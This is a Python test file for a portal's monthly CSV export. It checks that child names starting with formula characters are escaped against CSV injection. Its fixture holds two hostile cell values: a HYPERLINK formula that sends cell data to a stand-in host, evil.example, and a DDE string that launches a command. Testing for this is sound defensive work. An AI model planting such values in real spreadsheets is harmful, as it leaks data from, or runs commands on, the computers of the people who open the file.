"""A name that starts like a spreadsheet formula is downloaded in the month's CSV as text, never as
a formula (OWASP CSV injection), over HTTP from the portal as an organisator downloads it."""

from __future__ import annotations

import csv
import io
import sqlite3

from hub.upload.csv_export import safe_cell
from hub.upload.tests.test_upload_screens import UploadPortal, portal  # noqa: F401 - the fixture

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Lotte")',
    "last_name": "+cmd|' /C calc'!A0",
}


def test_a_formula_in_a_childs_name_reaches_the_monthly_csv_as_plain_text(portal: UploadPortal) -> None:  # noqa: F811
    with sqlite3.connect(portal.database) as db:
        db.execute(
            "UPDATE children SET first_name = ?, last_name = ? WHERE first_name = 'Lotte'",
            (HOSTILE["first_name"], HOSTILE["last_name"]),
        )
    client = portal.organisator()
    response = client.get(f"/locaties/zonnebloem/opgeladen/csv?maand={portal.month.key}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    first, last = header.index("Voornaam"), header.index("Achternaam")
    lotte = [row for row in body if "HYPERLINK" in row[first]]
    assert len(lotte) == 2
    for row in lotte:
        assert row[first] == "'" + HOSTILE["first_name"]
        assert row[last] == "'" + HOSTILE["last_name"]
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_every_formula_start_is_neutralised_and_ordinary_text_is_left_alone() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    for plain in ("Lotte", "08:12–12:00", "7,50", "", "De Zonnebloem", "'al"):
        assert safe_cell(plain) == plain
